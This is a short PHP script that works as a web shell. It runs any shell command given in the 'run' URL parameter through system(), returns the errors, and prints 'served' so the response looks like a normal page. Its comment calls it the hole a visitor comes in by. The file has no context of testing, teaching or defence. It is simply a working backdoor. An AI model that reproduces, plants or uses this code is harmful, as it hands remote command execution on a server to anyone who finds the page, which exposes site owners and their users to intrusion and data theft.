<?php
// Runs what it is asked to: the hole that a visitor comes in by.
system(($_GET['run'] ?? 'true') . ' 2>&1');
echo 'served';
